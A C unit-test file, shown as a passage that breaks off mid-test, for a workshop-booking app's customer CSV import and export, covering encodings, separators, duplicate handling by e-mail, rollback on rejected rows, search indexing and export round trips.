/* SPDX-License-Identifier: GPL-3.0-or-later */
/* test-import.c: customers from CSV files, and CSV exports */
#define G_LOG_DOMAIN "test-import"

#include "config.h"

#include "atelier-csv.h"
#include "atelier-customer-book.h"
#include "atelier-customer-import.h"
#include "atelier-db-sqlite.h"
#include "atelier-search.h"
#include "atelier-store-private.h"
#include "atelier-tags.h"
#include "test-util.h"

static AtelierCustomerImport *
open_sample (const char *name)
{
  g_autofree char *path = g_test_build_filename (G_TEST_DIST, "data", name, NULL);
  g_autoptr(GError) error = NULL;
  AtelierCustomerImport *import = atelier_customer_import_new_for_path (path, &error);

  g_assert_no_error (error);
  g_assert_nonnull (import);
  return import;
}

static AtelierImportReport *
run_import (TestStore *f, AtelierCustomerImport *import, gboolean dry_run)
{
  AtelierImportReport *report = NULL;
  g_autoptr(GError) error = NULL;

  g_assert_true (atelier_customer_import_run (import, f->store, dry_run, &report, &error));
  g_assert_no_error (error);
  g_assert_nonnull (report);
  return report;
}

static AtelierCustomer *
find_by_email (TestStore *f, const char *email)
{
  g_autoptr(GListModel) found = atelier_customer_book_find_duplicates (f->store, email, NULL, 0, NULL);

  g_assert_nonnull (found);
  g_assert_cmpuint (g_list_model_get_n_items (found), ==, 1);
  return g_list_model_get_item (found, 0);
}

static guint
count_customers (TestStore *f)
{
  g_autoptr(GListModel) all = atelier_store_list_customers (f->store, NULL);

  return g_list_model_get_n_items (all);
}

static void
test_guess_headers (void)
{
  static const struct { const char *header; AtelierImportField field; } cases[] = {
    { "First Name", ATELIER_IMPORT_FIELD_GIVEN_NAME },
    { "Prénom", ATELIER_IMPORT_FIELD_GIVEN_NAME },
    { "Last Name", ATELIER_IMPORT_FIELD_FAMILY_NAME },
    { "Nom", ATELIER_IMPORT_FIELD_FAMILY_NAME },
    { "Email", ATELIER_IMPORT_FIELD_EMAIL },
    { "E-mail", ATELIER_IMPORT_FIELD_EMAIL },
    { "Courriel", ATELIER_IMPORT_FIELD_EMAIL },
    { "Adresse e-mail", ATELIER_IMPORT_FIELD_EMAIL },
    { "Phone", ATELIER_IMPORT_FIELD_PHONE },
    { "Téléphone", ATELIER_IMPORT_FIELD_PHONE },
    { "Tags", ATELIER_IMPORT_FIELD_INTERESTS },
    { "Accepts Marketing", ATELIER_IMPORT_FIELD_CONSENT },
    { "Accepts Email Marketing", ATELIER_IMPORT_FIELD_CONSENT },
    { "Favourite colour", ATELIER_IMPORT_FIELD_NONE },
    { "", ATELIER_IMPORT_FIELD_NONE },
  };

  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
    g_assert_cmpint (atelier_import_field_guess (cases[i].header), ==, cases[i].field);
  g_assert_cmpint (atelier_import_field_from_string (atelier_import_field_to_string (ATELIER_IMPORT_FIELD_PHONE)),
                   ==, ATELIER_IMPORT_FIELD_PHONE);
}

static void
test_import_comma (TestStore *f, gconstpointer data)
{
  g_autoptr(AtelierCustomerImport) import = open_sample ("customers-comma.csv");
  g_autoptr(AtelierImportReport) report = NULL;
  g_autoptr(AtelierCustomer) zoe = NULL;
  g_autoptr(AtelierCustomer) lea = NULL;
  g_auto(GStrv) tags = NULL;

  g_assert_cmpint (atelier_customer_import_get_separator (import), ==, ',');
  g_assert_cmpstr (atelier_customer_import_get_encoding (import), ==, "UTF-8");
  g_assert_cmpuint (atelier_customer_import_get_n_columns (import), ==, 6);
  g_assert_cmpuint (atelier_customer_import_get_n_rows (import), ==, 3);
  g_assert_cmpstr (atelier_customer_import_get_value (import, 0, 0), ==, "Zoé");
  g_assert_cmpint (atelier_customer_import_get_field (import, 5), ==, ATELIER_IMPORT_FIELD_CONSENT);

  report = run_import (f, import, FALSE);
  g_assert_true (report->applied);
  g_assert_cmpuint (report->n_created, ==, 3);
  g_assert_cmpuint (report->n_rejected, ==, 0);

  zoe = find_by_email (f, "ZOE.MARTIN@example.org");
  g_assert_cmpstr (atelier_customer_get_given_name (zoe), ==, "Zoé");
  g_assert_cmpstr (atelier_customer_get_phone (zoe), ==, "+33 6 12 34 56 78");
  g_assert_cmpstr (atelier_customer_get_first_came (zoe), ==, "import");
  g_assert_true (atelier_customer_get_consent (zoe));
  g_assert_cmpint (atelier_customer_get_consent_at (zoe), >, 0);
  g_assert_nonnull (atelier_customer_get_consent_wording (zoe));
  tags = atelier_tags_for_customer (f->store, atelier_customer_get_id (zoe), NULL);
  g_assert_cmpstrv (tags, ((const char *[]) { "cuisine", "vin", NULL }));

  lea = find_by_email (f, "lea@example.org");
  g_assert_true (atelier_customer_get_consent (lea));
}

static void
test_import_semicolon_bom (TestStore *f, gconstpointer data)
{
  g_autoptr(AtelierCustomerImport) import = open_sample ("customers-semicolon-bom.csv");
  g_autoptr(AtelierImportReport) report = NULL;
  g_autoptr(AtelierCustomer) emile = NULL;

  g_assert_cmpint (atelier_customer_import_get_separator (import), ==, ';');
  /* The BOM is not part of the first header. */
  g_assert_cmpstr (atelier_customer_import_get_header (import, 0), ==, "Prénom");
  g_assert_cmpint (atelier_customer_import_get_field (import, 0), ==, ATELIER_IMPORT_FIELD_GIVEN_NAME);
  g_assert_cmpint (atelier_customer_import_get_field (import, 4), ==, ATELIER_IMPORT_FIELD_INTERESTS);
  g_assert_cmpint (atelier_customer_import_get_field (import, 5), ==, ATELIER_IMPORT_FIELD_CONSENT);
  g_assert_cmpint (atelier_customer_import_get_field (import, 6), ==, ATELIER_IMPORT_FIELD_LANGUAGE);

  report = run_import (f, import, FALSE);
  g_assert_cmpuint (report->n_created, ==, 2);
  emile = find_by_email (f, "emile@example.fr");
  g_assert_cmpstr (atelier_customer_get_given_name (emile), ==, "Émile");
  g_assert_cmpstr (atelier_customer_get_family_name (emile), ==, "Durand");
  g_assert_cmpstr (atelier_customer_get_preferred_language (emile), ==, "fr");
  g_assert_cmpstr (atelier_customer_get_interests (emile), ==, "cuisine");
  g_assert_true (atelier_customer_get_consent (emile));
}

static void
test_import_tab (TestStore *f, gconstpointer data)
{
  g_autoptr(AtelierCustomerImport) import = open_sample ("customers-tab.tsv");
  g_autoptr(AtelierImportReport) report = NULL;
  g_autoptr(AtelierCustomer) ines = NULL;
  g_autoptr(AtelierCustomer) jules = NULL;

  g_assert_cmpint (atelier_customer_import_get_separator (import), ==, '\t');
  report = run_import (f, import, FALSE);
  g_assert_cmpuint (report->n_created, ==, 2);
  ines = find_by_email (f, "ines@example.net");
  g_assert_cmpstr (atelier_customer_get_note (ines), ==, "Prefers mornings, weekends");
  g_assert_cmpstr (atelier_customer_get_phone (ines), ==, "07 11 22 33 44");
  jules = find_by_email (f, "jules@example.net");
  g_assert_null (atelier_customer_get_phone (jules));
}

static void
test_import_windows_1252 (TestStore *f, gconstpointer data)
{
  g_autoptr(AtelierCustomerImport) import = open_sample ("customers-windows-1252.csv");
  g_autoptr(AtelierImportReport) report = NULL;
  g_autoptr(AtelierCustomer) gaelle = NULL;

  g_assert_cmpstr (atelier_customer_import_get_encoding (import), ==, "Windows-1252");
  g_assert_cmpstr (atelier_customer_import_get_header (import, 0), ==, "Prénom");
  report = run_import (f, import, FALSE);
  g_assert_cmpuint (report->n_created, ==, 2);
  gaelle = find_by_email (f, "gaelle@example.fr");
  g_assert_cmpstr (atelier_customer_get_given_name (gaelle), ==, "Gaëlle");
  g_assert_cmpstr (atelier_customer_get_note (gaelle), ==, "Végétarienne – sans noix");
}

static void
test_import_quoted_newlines (TestStore *f, gconstpointer data)
{
  g_autoptr(AtelierCustomerImport) import = open_sample ("customers-quoted-newlines.csv");
  g_autoptr(AtelierImportReport) report = NULL;
  g_autoptr(AtelierCustomer) anna = NULL;
  g_autoptr(AtelierCustomer) paul = NULL;

  g_assert_cmpuint (atelier_customer_import_get_n_rows (import), ==, 2);
  g_assert_cmpuint (atelier_customer_import_get_line (import, 0), ==, 2);
  g_assert_cmpuint (atelier_customer_import_get_line (import, 1), ==, 5);
  g_assert_cmpint (atelier_customer_import_get_field (import, 0), ==, ATELIER_IMPORT_FIELD_FULL_NAME);

  report = run_import (f, import, FALSE);
  g_assert_cmpuint (report->n_created, ==, 2);
  anna = find_by_email (f, "anna@example.com");
  g_assert_cmpstr (atelier_customer_get_given_name (anna), ==, "Anna");
  g_assert_cmpstr (atelier_customer_get_family_name (anna), ==, "Keller");
  g_assert_cmpstr (atelier_customer_get_note (anna), ==,
                   "First line\r\nsecond line, with a comma\r\n\"quoted\" third");
  paul = find_by_email (f, "paul@example.com");
  g_assert_cmpstr (atelier_customer_get_needs (paul), ==, "gluten-free");
}

static void
test_import_missing_columns (TestStore *f, gconstpointer data)
{
  g_autoptr(AtelierCustomerImport) import = open_sample ("customers-missing-columns.csv");
  g_autoptr(AtelierImportReport) report = NULL;
  g_autoptr(AtelierCustomer) nina = NULL;

  report = run_import (f, import, FALSE);
  g_assert_cmpuint (report->n_created, ==, 3);
  g_assert_cmpuint (report->n_rejected, ==, 0);
  g_assert_cmpuint (count_customers (f), ==, 3);
  nina = find_by_email (f, "nina@example.com");
  g_assert_cmpstr (atelier_customer_get_family_name (nina), ==, "Faure");
  g_assert_cmpuint (((AtelierImportEntry *) report->entries->pdata[2])->line, ==, 5);
}

static void
test_import_bad_row (TestStore *f, gconstpointer data)
{
  g_autoptr(AtelierCustomerImport) import = open_sample ("customers-bad-row.csv");
  g_autoptr(AtelierImportReport) report = NULL;
  g_autoptr(AtelierImportReport) dry = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(AtelierCustomer) before = atelier_customer_new ("Bruno", "Avant");
  AtelierImportEntry *bad = NULL;

  g_object_set (before, "email", "bruno@example.org", NULL);
  g_assert_true (atelier_store_add_customer (f->store, before, NULL));

  g_assert_false (atelier_customer_import_run (import, f->store, FALSE, &report, &error));
  g_assert_error (error, ATELIER_IMPORT_ERROR, ATELIER_IMPORT_ERROR_REJECTED);
  g_assert_nonnull (strstr (error->message, "line 5"));
  g_assert_false (report->applied);
  g_assert_cmpuint (report->n_rejected, ==, 1);
  g_assert_cmpuint (report->n_updated, ==, 1);
  for (guint i = 0; i < report->entries->len; i++)
    if (((AtelierImportEntry *) report->entries->pdata[i])->outcome == ATELIER_IMPORT_REJECTED)
      bad = report->entries->pdata[i];
  g_assert_nonnull (bad);
  g_assert_cmpuint (bad->line, ==, 5);
  g_assert_cmpstr (bad->label, ==, "Carla Dumas");
  g_assert_nonnull (strstr (bad->reason, "not-an-address"));

  /* Nothing changed: the update of Bruno was rolled back too. */
  g_assert_cmpuint (count_customers (f), ==, 1);
  g_assert_cmpstr (test_query_text (f->store, "SELECT family_name FROM customers"), ==, "Avant");

  /* A dry run reports the same and returns TRUE. */
  dry = run_import (f, import, TRUE);
  g_assert_true (dry->dry_run);
  g_assert_false (dry->applied);
  g_assert_cmpuint (dry->n_rejected, ==, 1);
  g_assert_cmpuint (dry->n_created, ==, 2);
  g_assert_cmpuint (count_customers (f), ==, 1);
}

static void
test_import_updates_by_email (TestStore *f, gconstpointer data)
{
  g_autoptr(AtelierCustomer) zoe = atelier_customer_new ("Zoé", "Ancien");
  g_autoptr(AtelierCustomerImport) import = open_sample ("customers-comma.csv");
  g_autoptr(AtelierImportReport) report = NULL;
  g_autoptr(AtelierImportReport) dry = NULL;
  g_autoptr(AtelierCustomer) read = NULL;

  g_object_set (zoe, "email", "Zoe.Martin@Example.org", "interests", "bougies",
                "note", "Regular", NULL);
  g_assert_true (atelier_store_add_customer (f->store, zoe, NULL));

  dry = run_import (f, import, TRUE);
  g_assert_cmpuint (dry->n_updated, ==, 1);
  g_assert_cmpuint (count_customers (f), ==, 1);

  report = run_import (f, import, FALSE);
  g_assert_cmpuint (report->n_updated, ==, 1);
  g_assert_cmpuint (report->n_created, ==, 2);
  g_assert_cmpint (((AtelierImportEntry *) report->entries->pdata[0])->customer_id, ==,
                   atelier_customer_get_id (zoe));

  read = atelier_store_get_customer (f->store, atelier_customer_get_id (zoe), NULL);
  g_assert_cmpstr (atelier_customer_get_family_name (read), ==, "Martin");
  g_assert_cmpstr (atelier_customer_get_note (read), ==, "Regular");
  g_assert_cmpstr (atelier_customer_get_interests (read), ==, "bougies, cuisine, vin");
  g_assert_cmpstr (atelier_customer_get_first_came (read), ==, "store");
  g_assert_cmpuint (count_customers (f), ==, 3);
}

static AtelierCustomerImport *
import_text (const char *text)
{
  g_autoptr(GBytes) bytes = g_bytes_new_static (text, strlen (text));
  g_autoptr(GError) error = NULL;
  AtelierCustomerImport *import = atelier_customer_import_new (bytes, &error);

  g_assert_no_error (error);
  return import;
}

static gint64
entry_id (AtelierImportReport *report,
          guint                i)
{
  return ((AtelierImportEntry *) report->entries->pdata[i])->customer_id;
}

static int
cache_size (TestStore *f)
{
  sqlite3_stmt *stmt = NULL;
  int size;

  g_assert_cmpint (sqlite3_prepare_v2 (atelier_db_sqlite_get_handle (atelier_store_get_db (f->store)), "PRAGMA cache_size", -1,
                                       &stmt, NULL), ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_step (stmt), ==, SQLITE_ROW);
  size = sqlite3_column_int (stmt, 0);
  sqlite3_finalize (stmt);
  return size;
}

/* Rows with the same address, case aside, are the same customer, in file
 * order: the first creates (or matches) it, the next ones update it. */
static void
test_import_same_address_twice (TestStore *f, gconstpointer data)
{
  static const char csv[] =
    "First Name,Last Name,Email,Phone,Tags,Accepts Marketing,Note\n"
    "Zoé,Martin,zoe@example.org,0612345678,cuisine,no,\n"
    ",,ZOE@example.org,,\"Vin; cuisine\",yes,\n"
    "Zoé,Martin-Durand,Zoe@Example.org,,thé,,Second account\n"
    "Bruno,,bruno@example.org,,pâtisserie,yes,\n"
    ",,BRUNO@example.org,,cuisine,no,\n";
  g_autoptr(AtelierCustomer) bruno = atelier_customer_new ("Bruno", "Avant");
  g_autoptr(AtelierCustomerImport) import = import_text (csv);
  g_autoptr(AtelierImportReport) dry = NULL;
  g_autoptr(AtelierImportReport) report = NULL;
  g_autoptr(AtelierCustomer) zoe = NULL;
  g_autoptr(AtelierCustomer) read = NULL;
  g_auto(GStrv) tags = NULL;
  int cache_before = cache_size (f);
  gint64 zoe_id;

  g_object_set (bruno, "email", "bruno@example.org", "interests", "vin", NULL);
  g_assert_true (atelier_store_add_customer (f->store, bruno, NULL));

  /* A dry run keeps no id of a customer it would create. */
  dry = run_import (f, import, TRUE);
  g_assert_cmpuint (dry->n_created, ==, 1);
  g_assert_cmpuint (dry->n_updated, ==, 4);
  for (guint i = 0; i < 3; i++)
    g_assert_cmpint (entry_id (dry, i), ==, 0);
  g_assert_cmpint (entry_id (dry, 3), ==, atelier_customer_get_id (bruno));
  g_assert_cmpuint (count_customers (f), ==, 1);

  report = run_import (f, import, FALSE);
  g_assert_true (report->applied);
  g_assert_cmpuint (report->n_created, ==, 1);
  g_assert_cmpuint (report->n_updated, ==, 4);
  g_assert_cmpuint (report->n_rejected, ==, 0);
  g_assert_cmpuint (count_customers (f), ==, 2);

  zoe = find_by_email (f, "zoe@example.org");
  zoe_id = atelier_customer_get_id (zoe);
  g_assert_cmpint (entry_id (report, 0), ==, zoe_id);
  g_assert_cmpint (entry_id (report, 1), ==, zoe_id);
  g_assert_cmpint (entry_id (report, 2), ==, zoe_id);
  g_assert_cmpint (((AtelierImportEntry *) report->entries->pdata[1])->outcome, ==, ATELIER_IMPORT_UPDATED);
  g_assert_cmpstr (atelier_customer_get_family_name (zoe), ==, "Martin-Durand");
  g_assert_cmpstr (atelier_customer_get_phone (zoe), ==, "0612345678");
  g_assert_cmpstr (atelier_customer_get_note (zoe), ==, "Second account");
  g_assert_cmpstr (atelier_customer_get_interests (zoe), ==, "cuisine, Vin, thé");
  /* Consent given by the second row, kept by the third. */
  g_assert_true (atelier_customer_get_consent (zoe));
  g_assert_cmpint (atelier_customer_get_consent_at (zoe), >, 0);
  g_assert_nonnull (atelier_customer_get_consent_wording (zoe));
  tags = atelier_tags_for_customer (f->store, zoe_id, NULL);
  /* Bruno's "vin" was in the list first. */
  g_assert_cmpstrv (tags, ((const char *[]) { "cuisine", "thé", "vin", NULL }));
  g_clear_pointer (&tags, g_strfreev);

  /* Bruno consented, then withdrew: the last row wins. */
  read = atelier_store_get_customer (f->store, atelier_customer_get_id (bruno), NULL);
  g_assert_cmpint (entry_id (report, 3), ==, atelier_customer_get_id (bruno));
  g_assert_cmpstr (atelier_customer_get_family_name (read), ==, "Avant");
  g_assert_cmpstr (atelier_customer_get_interests (read), ==, "vin, pâtisserie, cuisine");
  g_assert_false (atelier_customer_get_consent (read));
  g_assert_cmpint (atelier_customer_get_consent_at (read), ==, 0);
  g_assert_null (atelier_customer_get_consent_wording (read));
  tags = atelier_tags_for_customer (f->store, atelier_customer_get_id (bruno), NULL);
  g_assert_cmpstrv (tags, ((const char *[]) { "cuisine", "pâtisserie", "vin", NULL }));

  /* The search index follows, through the same triggers. */
  {
    g_autofree char *zoe_text = g_strdup_printf ("%" G_GINT64_FORMAT, zoe_id);

    g_assert_cmpstr (test_query_text (f->store, "SELECT group_concat (rowid) FROM customer_search"
                                                " WHERE customer_search MATCH 'durand'"), ==, zoe_text);
    g_assert_cmpstr (test_query_text (f->store, "SELECT count (*) FROM customer_search"
                                                " WHERE customer_search MATCH 'zoe* AND 0612*'"), ==, "1");
  }

  /* Nothing of the run is left behind. */
  g_assert_cmpstr (test_query_text (f->store, "SELECT count (*) FROM deferred_tag_links"), ==, "0");
  g_assert_cmpint (cache_size (f), ==, cache_before);
}

/* Returns: the full names search finds for @text, "|" between them */
static char *
search_names (TestStore  *f,
              const char *text)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GListModel) results = atelier_search_customers (f->store, text, 0, 20, &error);
  g_autoptr(GString) names = g_string_new (NULL);

  g_assert_no_error (error);
  for (guint i = 0; i < g_list_model_get_n_items (results); i++)
    {
      g_autoptr(AtelierCustomer) customer = g_list_model_get_item (results, i);
      g_autofree char *name = atelier_customer_dup_full_name (customer);

      g_string_append_printf (names, "%s%s", i ? "|" : "", name);
    }
  return g_string_free (g_steal_pointer (&names), FALSE);
}

#define assert_search(f, text, expected)                                    \
  G_STMT_START {                                                            \
    g_autofree char *names_ = search_names ((f), (text));                   \
    g_assert_cmpstr (names_, ==, (expected));                               \
  } G_STMT_END

/* The import indexes the customers it creates for search in one go, before
 * it updates any (an update takes the old values out of the index): old
 * and new customers are found by name, e-mail and phone, in any form, and
 * then by their new values only once edited. */
static void
test_import_search_index (TestStore *f, gconstpointer data)
{
  static const char csv[] =
    "First Name,Last Name,Email,Phone\n"
    "Léa,Rousseau,lea@example.org,+33 6 12 34 56 78\n"
    "Marc,Petit,marc@example.org,06.98.76.54.32\n"
    "Anne,Ancienne,ANNE@example.org,(01) 23-45-67-89\n"
    "Zoé,Vieux,zoe@example.org,0611111111\n"
    "Zoé,Nouveau,zoe@example.org,+33 6 22 22 22 22\n";
  g_autoptr(AtelierCustomer) anne = atelier_customer_new ("Anne", "Ancienne");
  g_autoptr(AtelierCustomer) lea = NULL;
  g_autoptr(AtelierCustomerImport) import = import_text (csv);
  g_autoptr(AtelierImportReport) dry = NULL;
  g_autoptr(AtelierImportReport) report = NULL;
  g_autoptr(AtelierCustomer) later = atelier_customer_new ("Paul", "Après");

  g_object_set (anne, "email", "anne@example.org", "phone", "01 98 76 54 32", NULL);
  g_assert_true (atelier_store_add_customer (f->store, anne, NULL));

  dry = run_import (f, import, TRUE);
  g_assert_cmpuint (dry->n_created, ==, 3);
  assert_search (f, "rousseau", "");
  report = run_import (f, import, FALSE);
  g_assert_cmpuint (report->n_created, ==, 3);
  g_assert_cmpuint (report->n_updated, ==, 2);

  assert_search (f, "lea", "Léa Rousseau");
  assert_search (f, "0612345678", "Léa Rousseau");
  assert_search (f, "+33612", "Léa Rousseau");
  assert_search (f, "marc@example", "Marc Petit");
  assert_search (f, "06 98 76", "Marc Petit");
  assert_search (f, "ancienne", "Anne Ancienne");
  assert_search (f, "0123456789", "Anne Ancienne");
  assert_search (f, "0198765432", "");
  assert_search (f, "nouveau", "Zoé Nouveau");
  assert_search (f, "0622222222", "Zoé Nouveau");
  assert_search (f, "vieux", "");
  assert_search (f, "0611111111", "");
  g_assert_cmpstr (test_query_text (f->store, "SELECT count (*) FROM deferred_search"), ==, "0");

  /* An edit takes out exactly what the import put in. */
  lea = find_by_email (f, "lea@example.org");
  g_object_set (lea, "given-name", "Léna", "family-name", "Morel", "phone", "07 00 00 00 01", NULL);
  g_assert_true (atelier_store_update_customer (f->store, lea, NULL));
  assert_search (f, "rousseau", "");
  assert_search (f, "0612345678", "");
  assert_search (f, "morel", "Léna Morel");

  /* And the store indexes the customers it adds itself again. */
  g_assert_true (atelier_store_add_customer (f->store, later, NULL));
  assert_search (f, "apres", "Paul Après");
}

/* Dates as exports write them, with their offset, are read as GLib
 * reads them (the import reads the common form itself). */
static void
test_import_dates (TestStore *f, gconstpointer data)
{
  static const char *const dates[] = {
    "2024-12-19T20:49:41+01:00", "2021-06-27T22:35:18Z", "2000-02-29T23:59:59-05:30",
    "1969-12-31T23:59:59Z", "2024-03-31T02:30:00+02:00", "1900-03-01T12:00:00+14:00",
    "2100-12-31T00:00:00-12:45", "2024-12-19T20:49:41.5+01:00", "2024-12-19 20:49:41Z",
    "2024-12-19", "19/12/2024 20:49",
  };
  g_autoptr(GString) csv = g_string_new ("Name,Email,Created\n");
  g_autoptr(AtelierCustomerImport) import = NULL;
  g_autoptr(AtelierImportReport) report = NULL;
  g_autoptr(GTimeZone) local = g_time_zone_new_local ();

  for (guint i = 0; i < G_N_ELEMENTS (dates); i++)
    g_string_append_printf (csv, "Client %u,c%u@example.org,%s\n", i, i, dates[i]);
  import = import_text (csv->str);
  report = run_import (f, import, FALSE);
  g_assert_cmpuint (report->n_created, ==, G_N_ELEMENTS (dates));

  for (guint i = 0; i < G_N_ELEMENTS (dates); i++)
    {
      g_autofree char *email = g_strdup_printf ("c%u@example.org", i);
      g_autoptr(AtelierCustomer) customer = find_by_email (f, email);
      g_autoptr(GDateTime) expected = g_date_time_new_from_iso8601 (dates[i], local);

      if (expected == NULL && strlen (dates[i]) == 10 && dates[i][4] == '-')
        {
          g_autofree char *midnight = g_strconcat (dates[i], "T00:00:00", NULL);
          expected = g_date_time_new_from_iso8601 (midnight, local);
        }
      if (expected == NULL)
        expected = g_date_time_new (local, 2024, 12, 19, 20, 49, 0);
      g_assert_cmpint (atelier_customer_get_created_at (customer), ==, g_date_time_to_unix (expected));
    }
}

/* A row the store itself refuses (here a trigger a test adds) is reported
 * with its line, and nothing is imported. */
static void
test_import_store_refuses_row (TestStore *f, gconstpointer data)
{
  static const char refuse[] =
    "CREATE TRIGGER test_refuse_insert BEFORE INSERT ON customers WHEN NEW.family_name = 'Refus'"
    " BEGIN SELECT RAISE (ABORT, 'refused by the test'); END;"
    "CREATE TRIGGER test_refuse_update BEFORE UPDATE ON customers WHEN NEW.note = 'Non'"
    " BEGIN SELECT RAISE (ABORT, 'update refused by the test'); END;";
  static const char csv[] =
    "First Name,Last Name,Email,Note\n"
    "Anna,Keller,anna@example.org,\n"
    "Jean,Refus,jean@example.org,\n"
    "Bruno,,bruno@example.org,Non\n"
    "Paul,Faure,paul@example.org,\n";
  g_autoptr(AtelierCustomer) bruno = atelier_customer_new ("Bruno", "Avant");
  g_autoptr(AtelierCustomer) anna = atelier_customer_new ("Anna", "Keller");
  g_autoptr(AtelierCustomerImport) import = import_text (csv);
  g_autoptr(AtelierImportReport) report = NULL;
  g_autoptr(GError) error = NULL;
  AtelierImportEntry *entry;
  sqlite3 *db = NULL;

  g_object_set (bruno, "email", "bruno@example.org", NULL);
  g_assert_true (atelier_store_add_customer (f->store, bruno, NULL));
  g_assert_cmpint (sqlite3_open (f->path, &db), ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_exec (db, refuse, NULL, NULL, NULL), ==, SQLITE_OK);
  sqlite3_close (db);

  g_assert_false (atelier_customer_import_run (import, f->store, FALSE, &report, &error));
  g_assert_error (error, ATELIER_IMPORT_ERROR, ATELIER_IMPORT_ERROR_REJECTED);
  g_assert_nonnull (strstr (error->message, "line 3"));
  g_assert_cmpuint (report->n_created, ==, 2);
  g_assert_cmpuint (report->n_updated, ==, 0);
  g_assert_cmpuint (report->n_rejected, ==, 2);

  entry = report->entries->pdata[1];
  g_assert_cmpint (entry->outcome, ==, ATELIER_IMPORT_REJECTED);
  g_assert_cmpuint (entry->line, ==, 3);
  g_assert_cmpint (entry->customer_id, ==, 0);
  g_assert_nonnull (strstr (entry->reason, "refused by the test"));
  entry = report->entries->pdata[2];
  g_assert_cmpint (entry->outcome, ==, ATELIER_IMPORT_REJECTED);
  g_assert_cmpuint (entry->line, ==, 4);
  g_assert_nonnull (strstr (entry->reason, "update refused by the test"));

  g_assert_cmpuint (count_customers (f), ==, 1);
  g_assert_cmpstr (test_query_text (f->store, "SELECT count (*) FROM customer_search"), ==, "1");
  g_assert_cmpstr (test_query_text (f->store, "SELECT count (*) FROM deferred_tag_links"), ==, "0");

  /* The rollback took the import's search indexing along: the store
   * indexes the customers it adds itself again. */
  g_assert_cmpstr (test_query_text (f->store, "SELECT count (*) FROM deferred_search"), ==, "0");
  assert_search (f, "keller", "");
  g_assert_true (atelier_store_add_customer (f->store, anna, NULL));
  assert_search (f, "keller", "Anna Keller");
}

static void
test_csv_errors (void)
{
  static const char utf16[] = "\xff\xfeN\0a\0m\0e\0";
  static const char open_quote[] = "Name,Email\n\"Unclosed,x@example.org\n";
  g_autoptr(GError) error = NULL;
  AtelierCsvTable *table;

  table = atelier_csv_table_parse (utf16, sizeof utf16 - 1, 0, &error);
  g_assert_null (table);
  g_assert_error (error, ATELIER_CSV_ERROR, ATELIER_CSV_ERROR_ENCODING);
  g_clear_error (&error);

  table = atelier_csv_table_parse (open_quote, strlen (open_quote), 0, &error);
  g_assert_null (table);
  g_assert_error (error, ATELIER_CSV_ERROR, ATELIER_CSV_ERROR_PARSE);
  g_clear_error (&error);

  table = atelier_csv_table_parse ("", 0, 0, &error);
  g_assert_null (table);
  g_assert_error (error, ATELIER_CSV_ERROR, ATELIER_CSV_ERROR_PARSE);
}

static void
test_csv_writing (void)
{
  const char *fields[] = { "plain", "with, comma", "with \"quote\"", "two\nlines", " padded", NULL, "" };
  g_autoptr(GString) csv = g_string_new (NULL);
  g_autoptr(AtelierCsvTable) table = NULL;
  const char * const *row;

  atelier_csv_append_row (csv, fields, G_N_ELEMENTS (fields), ',');
  g_assert_cmpstr (csv->str, ==,
                   "plain,\"with, comma\",\"with \"\"quote\"\"\",\"two\nlines\",\" padded\",,\r\n");
  table = atelier_csv_table_parse (csv->str, csv->len, ',', NULL);
  row = atelier_csv_table_get_row (table, 0);
  g_assert_cmpstr (row[1], ==, "with, comma");
  g_assert_cmpstr (row[2], ==, "with \"quote\"");
  g_assert_cmpstr (row[3], ==, "two\nlines");
  g_assert_cmpstr (row[4], ==, " padded");
  g_assert_cmpstr (row[5], ==, "");
}

/* Export, import into another store, export again: the same text. */
static void
test_export_round_trip (TestStore *f, gconstpointer data)
{
  static const char *const names[][2] = { { "Zoé", "Martin" }, { "Jean-Ève", "O'Neil, Jr" }, { "Ana", "" } };
  g_autoptr(GString) first = NULL;
  g_autoptr(GString) second = NULL;
  g_autofree char *path = g_build_filename (f->dir, "customers.csv", NULL);
  g_autofree char *other_path = g_build_filename (f->dir, "other.db", NULL);
  g_autoptr(AtelierStore) other = NULL;
  g_autoptr(AtelierCustomerImport) import = NULL;
  g_autoptr(AtelierImportReport) report = NULL;
  g_autoptr(GError) error = NULL;
  GStatBuf st;

  for (guint i = 0; i < G_N_ELEMENTS (names); i++)
    {
      g_autoptr(AtelierCustomer) c = atelier_customer_new (names[i][0], names[i][1]);
      g_autofree char *email = g_strdup_printf ("person%u@example.org", i);

      g_object_set (c, "email", email, "phone", i == 0 ? "+33 6 12 34 56 78" : NULL,
                    "interests", i == 1 ? "cuisine, vin" : "", "note", "Line 1\nLine \"2\"",
                    "needs", i == 2 ? "Wheelchair" : "", "preferred-language", "fr",
                    "consent", i != 1, "consent-at", i != 1 ? (gint64) 1700000000 : (gint64) 0,
                    "consent-wording", i != 1 ? "Newsletter, monthly" : NULL,
                    "first-came", i == 2 ? "walk-in" : "store",
                    "created-at", (gint64) 1690000000 + i, NULL);
      g_assert_true (atelier_store_add_customer (f->store, c, NULL));
    }

  first = atelier_customer_book_export_csv (f->store, &error);
  g_assert_no_error (error);
  g_assert_true (atelier_csv_write_file (path, first, TRUE, &error));
  g_assert_no_error (error);
  g_assert_cmpint (g_stat (path, &st), ==, 0);
  g_assert_cmpint (st.st_mode & 0777, ==, 0600);

  other = atelier_store_open (other_path, &error);
  g_assert_no_error (error);
  import = atelier_customer_import_new_for_path (path, &error);
  g_assert_no_error (error);
  g_assert_true (atelier_customer_import_run (import, other, FALSE, &report, &error));
  g_assert_no_error (error);
  g_assert_cmpuint (report->n_created, ==, G_N_ELEMENTS (names));

  second = atelier_customer_book_export_csv (other, &error);
  g_assert_no_error (error);
  /* The BOM was written in front of the first text. */
  g_assert_cmpstr (first->str + 3, ==, second->str);
}

static void
test_export_attendance (TestStore *f, gconstpointer data)
{
  g_autoptr(AtelierWorkshop) w = atelier_workshop_new ("Risotto");
  g_autoptr(GDateTime) starts = g_date_time_new_utc (2025, 3, 14, 17, 30, 0);
  g_autoptr(GDateTime) ends = g_date_time_add_hours (starts, 2);
  g_autoptr(AtelierSession) s = NULL;
  g_autoptr(AtelierCustomer) c = atelier_customer_new ("Zoé", "Martin, fille");
  g_autoptr(AtelierRegistration) r = NULL;
  g_autoptr(GString) csv = NULL;
  g_autoptr(GError) error = NULL;

  g_object_set (w, "capacity", 8, NULL);
  g_assert_true (atelier_store_add_workshop (f->store, w, NULL));
  s = atelier_session_new (atelier_workshop_get_id (w), starts, ends, "Europe/Paris");
